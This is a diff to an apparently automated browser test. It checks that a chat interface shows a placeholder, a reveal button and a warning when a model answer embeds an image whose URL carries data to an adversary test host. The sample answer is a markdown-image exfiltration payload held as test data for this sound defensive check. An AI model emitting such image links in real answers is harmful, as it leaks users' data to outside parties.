@@ -28,6 +28,12 @@ test("model: an inline image carrying data is a placeholder naming its host", as
   await adversary.setUp();
   const shown = await answer(adversary, "Done. ![chart]({C}/inline.png?rows=Seattle%2C150)");
   await expect(shown.getByRole("img", { name: `Image from ${host(adversary)} not loaded` })).toBeVisible();
+  // Revealed at the person's click: its full address and a warning, still not loaded by the page.
+  await shown.getByRole("button", { name: `Reveal image from ${host(adversary)}` }).click();
+  const url = `${adversary.canary.url}/inline.png?rows=Seattle%2C150`;
+  await expect(shown.getByRole("note")).toContainText(`Warning: opening it tells ${host(adversary)}`);
+  await expect(shown.getByRole("note")).toContainText(url);
+  await expect(shown.getByRole("link", { name: "Open the image in a new tab" })).toHaveAttribute("href", url);
   await expect(shown.locator("img")).toHaveCount(0);
   await adversary.expectSafe();
 });
